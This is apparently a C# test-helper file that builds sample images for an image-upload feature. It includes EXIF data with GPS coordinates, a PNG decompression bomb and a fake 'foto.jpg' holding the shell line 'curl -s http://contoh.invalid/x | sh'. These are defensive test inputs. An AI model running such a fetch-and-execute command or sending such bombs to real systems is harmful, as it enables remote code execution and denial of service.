using System.Buffers.Binary;
using System.Text;
using SkiaSharp;

namespace LocalProducts.Tests;

/// Real images made in the test with SkiaSharp, and a few files that only pretend to be images.
public static class TestImages
{
    /// A picture whose top-left quadrant is red and the rest blue, so a turn can be seen.
    public static SKBitmap Quadrants(int width, int height)
    {
        var bitmap = new SKBitmap(width, height);
        using var canvas = new SKCanvas(bitmap);
        canvas.Clear(SKColors.Blue);
        using var red = new SKPaint { Color = SKColors.Red };
        canvas.DrawRect(0, 0, width / 2f, height / 2f, red);
        return bitmap;
    }

    /// A black-and-white pattern like a QR code (a checkerboard of square modules on white, with a
    /// margin), as a PNG: what a screenshot of a QRIS looks like to the image code.
    public static byte[] QrLikePng(int width, int height, int module = 10)
    {
        using var bitmap = new SKBitmap(width, height);
        using (var canvas = new SKCanvas(bitmap))
        {
            canvas.Clear(SKColors.White);
            using var black = new SKPaint { Color = SKColors.Black };
            var margin = module * 4;
            for (var y = margin; y + module <= height - margin; y += module)
            {
                for (var x = margin; x + module <= width - margin; x += module)
                {
                    if (((x + y) / module) % 2 == 0)
                    {
                        canvas.DrawRect(x, y, module, module, black);
                    }
                }
            }
        }
        using var data = bitmap.Encode(SKEncodedImageFormat.Png, 100);
        return data.ToArray();
    }

    public static byte[] Encode(SKEncodedImageFormat format, int width, int height, int quality = 90)
    {
        using var bitmap = Quadrants(width, height);
        using var data = bitmap.Encode(format, quality);
        return data.ToArray();
    }

    public static byte[] Jpeg(int width, int height) => Encode(SKEncodedImageFormat.Jpeg, width, height);

    public static byte[] Png(int width, int height) => Encode(SKEncodedImageFormat.Png, width, height);

    public static byte[] Webp(int width, int height) => Encode(SKEncodedImageFormat.Webp, width, height);

    /// A text that a camera or phone would never want published.
    public const string SecretDescription = "RAHASIA-LOKASI-RUMAH";

    /// The JPEG with an EXIF block as phones write it: orientation, a description and GPS latitude.
    public static byte[] WithExif(byte[] jpeg, ushort orientation)
    {
        var tiff = new byte[126];
        var span = tiff.AsSpan();
        "MM"u8.CopyTo(span);
        BinaryPrimitives.WriteUInt16BigEndian(span[2..], 42);
        BinaryPrimitives.WriteUInt32BigEndian(span[4..], 8);
        // IFD0 at 8: ImageDescription, Orientation, GPS IFD pointer (ascending tags).
        BinaryPrimitives.WriteUInt16BigEndian(span[8..], 3);
        Entry(span[10..], 0x010E, 2, 21, 50);
        Entry(span[22..], 0x0112, 3, 1, (uint)orientation << 16);
        Entry(span[34..], 0x8825, 4, 1, 72);
        BinaryPrimitives.WriteUInt32BigEndian(span[46..], 0);
        Encoding.ASCII.GetBytes(SecretDescription + "\0").CopyTo(span[50..]);
        // GPS IFD at 72: latitude reference and latitude (three rationals at 102).
        BinaryPrimitives.WriteUInt16BigEndian(span[72..], 2);
        Entry(span[74..], 0x0001, 2, 2, (uint)'S' << 24);
        Entry(span[86..], 0x0002, 5, 3, 102);
        BinaryPrimitives.WriteUInt32BigEndian(span[98..], 0);
        uint[] rationals = [6, 1, 10, 1, 30, 1];
        for (var i = 0; i < rationals.Length; i++)
        {
            BinaryPrimitives.WriteUInt32BigEndian(span[(102 + (i * 4))..], rationals[i]);
        }

        var payload = "Exif\0\0"u8.ToArray().Concat(tiff).ToArray();
        var segment = new byte[4 + payload.Length];
        segment[0] = 0xFF;
        segment[1] = 0xE1;
        BinaryPrimitives.WriteUInt16BigEndian(segment.AsSpan(2), (ushort)(payload.Length + 2));
        payload.CopyTo(segment, 4);
        return [.. jpeg[..2], .. segment, .. jpeg[2..]];

        static void Entry(Span<byte> at, ushort tag, ushort type, uint count, uint value)
        {
            BinaryPrimitives.WriteUInt16BigEndian(at, tag);
            BinaryPrimitives.WriteUInt16BigEndian(at[2..], type);
            BinaryPrimitives.WriteUInt32BigEndian(at[4..], count);
            BinaryPrimitives.WriteUInt32BigEndian(at[8..], value);
        }
    }

    /// A shell script someone renamed to foto.jpg.
    public static byte[] ShellScript() => Encoding.UTF8.GetBytes("#!/bin/sh\ncurl -s http://contoh.invalid/x | sh\n");

    /// A real 1×1 GIF.
    public static byte[] Gif() =>
    [
        0x47, 0x49, 0x46, 0x38, 0x39, 0x61, 0x01, 0x00, 0x01, 0x00, 0x80, 0x00, 0x00, 0xFF, 0xFF, 0xFF, 0x00, 0x00, 0x00,
        0x21, 0xF9, 0x04, 0x01, 0x00, 0x00, 0x00, 0x00, 0x2C, 0x00, 0x00, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00, 0x02,
        0x02, 0x44, 0x01, 0x00, 0x3B,
    ];

    /// A PNG of a few hundred bytes whose header claims width × height pixels: a decompression bomb.
    public static byte[] PngClaiming(int width, int height)
    {
        var header = new byte[13];
        BinaryPrimitives.WriteInt32BigEndian(header, width);
        BinaryPrimitives.WriteInt32BigEndian(header.AsSpan(4), height);
        header[8] = 8; // bit depth
        header[9] = 2; // RGB
        using var output = new MemoryStream();
        output.Write([0x89, (byte)'P', (byte)'N', (byte)'G', 0x0D, 0x0A, 0x1A, 0x0A]);
        Chunk(output, "IHDR", header);
        Chunk(output, "IDAT", [0x78, 0x9C, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01]);
        Chunk(output, "IEND", []);
        return output.ToArray();

        static void Chunk(Stream output, string type, byte[] data)
        {
            var length = new byte[4];
            BinaryPrimitives.WriteInt32BigEndian(length, data.Length);
            output.Write(length);
            var typed = Encoding.ASCII.GetBytes(type).Concat(data).ToArray();
            output.Write(typed);
            var crc = new byte[4];
            BinaryPrimitives.WriteUInt32BigEndian(crc, Crc32(typed));
            output.Write(crc);
        }
    }

    private static uint Crc32(byte[] bytes)
    {
        var crc = 0xFFFFFFFFu;
        foreach (var b in bytes)
        {
            crc ^= b;
            for (var k = 0; k < 8; k++)
            {
                crc = (crc & 1) != 0 ? (crc >> 1) ^ 0xEDB88320u : crc >> 1;
            }
        }
        return ~crc;
    }

    /// True when <paramref name="needle"/> occurs anywhere in <paramref name="haystack"/>.
    public static bool Contains(byte[] haystack, ReadOnlySpan<byte> needle) => haystack.AsSpan().IndexOf(needle) >= 0;

    /// The colour at a point of an encoded image.
    public static SKColor PixelAt(byte[] encoded, int x, int y)
    {
        using var bitmap = SKBitmap.Decode(encoded);
        return bitmap.GetPixel(x, y);
    }
}
